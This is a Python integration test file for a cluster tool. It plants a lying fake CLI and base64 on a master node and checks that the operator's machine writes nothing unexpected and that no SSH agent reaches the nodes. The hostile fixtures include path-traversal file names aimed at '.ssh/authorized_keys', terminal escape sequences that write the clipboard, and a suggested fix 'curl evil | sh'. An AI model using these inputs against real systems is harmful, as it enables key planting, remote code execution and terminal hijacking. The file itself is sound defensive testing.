"""The border between a cluster and the machine of its operator: a master that lies, and where the agent goes."""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from localcloud.testing.booted import command, wait_for
from tests.integration.machines import Cluster, Played
from tests.integration.runs import repository

pytestmark = pytest.mark.gate

MASTER = "deeplearning-master"
CLIPBOARD = "\x1b]52;c;ZXZpbA==\x07"

# It answers each question with paths, names of roles, what a terminal obeys, and numbers without end.
HOSTILE = r"""#!/usr/bin/python3
import json, sys
words = sys.argv[1:]
if sent := sys.stdin.buffer.read():
    open("/var/tmp/sent", "wb").write(sent)
verb, as_json = " ".join(words[:2]), "--json" in words
escape, path = "\x1b]52;c;ZXZpbA==\x07\x1b[2J", "../../../../.ssh"
run = {"framework": "/../../.deeplearning/reports/x/runs/evil/metrics", "distribution": path, "python": "/bin/sh",
       "script": path, "script_args": [escape], "data": path, "generated": True, "nodes": 10**12}
events = [{"event": "_init__"}, {"event": "plan", "processes": [{}]}, {"event": "output", "line": escape},
          {"event": "progress", "loss": "x", "epoch": 10**400}, {"event": "end", "state": path, "exit_code": 10**400}]
answers = {
    "run list": {"runs": [{"run_id": path, "state": "finished"}]},
    "run show": {"run": run},
    "run create": {"run_id": path, "warnings": [escape]},
    "run files": {"state": "finished", "left_out": [escape], "files": [
        {"name": "model/" + path + "/authorized_keys", "size": 3, "modified": 0}]},
    "health check": {"generation": 10**30, "environments": {escape: path}, "checks": [
        {"name": path, "ok": False, "detail": escape, "fix": "curl evil | sh"}]},
}
if verb in answers and (as_json or verb not in ("run list", "run show")):
    print(json.dumps(answers[verb]))
elif verb == "run follow":
    print(*map(json.dumps, events), sep="\n")
elif verb == "run stop":
    sys.exit("deeplearning: " + escape)
else:
    print(escape, path)
"""
# In place of base64, which packs the files that a node sends: more files follow each of them.
HOSTILE_BASE64 = r"""#!/usr/bin/python3
import base64, gzip, json, sys
sys.stdin.buffer.read()
names = ["../../../../.ssh/authorized_keys", "/root/.ssh/authorized_keys", "evil/../../.ssh/rc", "evil/metrics/evil",
         "other/run.json", "evil/metrics/rank0.jsonl\x1b]52;c;ZXZpbA==\x07", "evil", "", "evil/state.json"]
run = {"run_id": "\x1b]52;c;ZXZpbA==\x07", "framework": "../.."}
packed = base64.b64encode(gzip.compress(json.dumps(run).encode())).decode()
print(packed, *(f"{name} {packed}" for name in names), sep="\n", end="")
"""


@pytest.fixture
def hostile_master(training_cluster: Cluster) -> Iterator[Cluster]:
    cluster = training_cluster
    cluster.says(MASTER, "sudo mv /usr/local/bin/deeplearning /usr/local/bin/deeplearning.kept")
    try:
        for path, content in (
            ("/usr/local/bin/deeplearning", HOSTILE),
            ("/usr/local/bin/base64", HOSTILE_BASE64),
        ):
            words = [*cluster.ssh_words(MASTER), f"sudo install -m 755 /dev/stdin {path}"]
            subprocess.run(words, input=content.encode(), check=True, timeout=120)
        cluster.says(MASTER, f"mkdir -p /efs/runs/{cluster.name}/evil && echo > /efs/runs/{cluster.name}/evil/run.json")
        yield cluster
    finally:
        cluster.says(
            MASTER,
            "sudo mv /usr/local/bin/deeplearning.kept /usr/local/bin/deeplearning; "
            f"sudo rm -rf /usr/local/bin/base64 /var/tmp/sent /efs/runs/{cluster.name}/evil",
        )


def files_of(folder: Path) -> dict[str, str]:
    return {
        str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in folder.rglob("*")
        if path.is_file()
    }


ASKED = {
    "status": ({"run_id": "all"}, "]52;c;ZXZpbA==\ufffd\ufffd[2J ../../../../.ssh"),
    "report": ({}, "answered `deeplearning run list` with something unexpected (runs: run_id: a run's id"),
    "report of evil": ({"run_id": "evil"}, "/.runs/evil is no folder of a run (run_id: a run's id"),
    "follow": ({"run_id": "evil"}, "run evil ended without reporting a result"),
    "train": ({"resume": "evil"}, "answered `deeplearning run show` with something unexpected"),
    "evaluate": ({"run_id": "evil"}, "answered `deeplearning run show` with something unexpected"),
    "get": (
        {"run_id": "evil"},
        "answered `deeplearning run files` with something unexpected (files: name: the name",
    ),
    "stop": ({"run_id": "evil"}, "]52;c;ZXZpbA=="),
    "health": ({}, "deeplearning-master, reachable: it answers as another version of the program does"),
}


def test_a_master_that_lies_gets_nothing_written_and_nothing_sent(hostile_master: Cluster) -> None:
    cluster, folder = hostile_master, hostile_master.cloud.folder
    before = files_of(folder)

    def play(name: str) -> Played:
        return cluster.play(f"playbooks/{name.split()[0]}.yml", **ASKED[name][0])

    with ThreadPoolExecutor(2) as pool:
        played = dict(zip(ASKED, pool.map(play, ASKED), strict=True))
    for name, ran in played.items():
        message = " ".join(ran.output.split())
        assert ASKED[name][1] in message, (name, ran.output[-3000:])
        assert "\x1b" not in ran.output and "\x07" not in ran.output, (name, ran.output[-3000:])
        assert "Traceback" not in ran.output and "curl" not in ran.output, (name, ran.output[-3000:])
        assert ran.code == (0 if name == "status" else 2), (name, ran.output[-3000:])
        failed = [line for line in ran.output.splitlines() if line.startswith("fatal: ")]
        assert len(failed) == (0 if name == "status" else 1), (name, failed)
    after = files_of(folder)
    own = re.compile(
        rf"\.deeplearning/({cluster.name}\.(ssh_config|known_hosts|health\.json)"
        rf"|reports/{cluster.name}/\.runs/evil/(run|state)\.json)"
    )
    assert {name for name in before.keys() | after.keys() if before.get(name) != after.get(name)} <= {
        name for name in after if own.fullmatch(name)
    }
    assert cluster.ssh(MASTER, "ls /var/tmp/sent").returncode == 2
    assert cluster.ssh(MASTER, f"ls /efs/runs/{cluster.name}/reports/evil").returncode == 2


AGENTS = "sudo find /tmp /run -name 'agent.*' -type s"
WITH_AGENT = 'import os; print("agent", os.environ.get("SSH_AUTH_SOCK")); import time; time.sleep(600)'


@pytest.fixture
def agent(training_cluster: Cluster, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The operator's, with the key of the cluster in it. Only playbooks know of it."""
    folder = training_cluster.cloud.folder
    socket = folder / "agent"
    monkeypatch.delenv("SSH_AUTH_SOCK", raising=False)
    with subprocess.Popen(["ssh-agent", "-D", "-a", str(socket)], stdout=subprocess.DEVNULL) as process:
        try:
            words, variables = ("ssh-add", "-q", folder / "key"), {**os.environ, "SSH_AUTH_SOCK": str(socket)}
            # Its socket exists before it listens.
            wait_for(lambda: command(*words, env=variables).returncode == 0, 120, "the agent takes the key")
            monkeypatch.setitem(training_cluster.cloud.variables, "SSH_AUTH_SOCK", str(socket))
            yield socket
        finally:
            process.terminate()


def test_no_agent_and_no_login_of_git_reaches_a_node_for_a_run(
    training_cluster: Cluster, agent: Path, tmp_path: Path
) -> None:
    cluster = training_cluster
    repository(tmp_path, {"train.py": WITH_AGENT})
    script = f"git+{tmp_path}@main:train.py"
    asked = {"framework": "pytorch", "python": "/usr/bin/python3", "script": script, "run_id": "cloned-here"}
    with cluster.playing("train.yml", **asked) as playing:
        show = "deeplearning run show cloned-here --json"
        wait_for(lambda: '"running"' in cluster.ssh(MASTER, show).stdout, 120, "the run has its code and trains")
        for node in (MASTER, "deeplearning-worker2", "deeplearning-worker3"):
            assert cluster.says(node, AGENTS) == ""
        assert cluster.says(MASTER, f"ls -A /efs/runs/{cluster.name}/cloned-here/code") == "train.py"
        log = f"cat /efs/runs/{cluster.name}/cloned-here/logs/*.worker0.log"
        wait_for(lambda: "agent None" in cluster.ssh(MASTER, log).stdout, 120, "the script has no agent either")
        assert playing.poll() is None
    stopped = cluster.play("stop.yml", run_id="cloned-here")
    assert stopped.code == 0, json.dumps(stopped.output[-2000:])
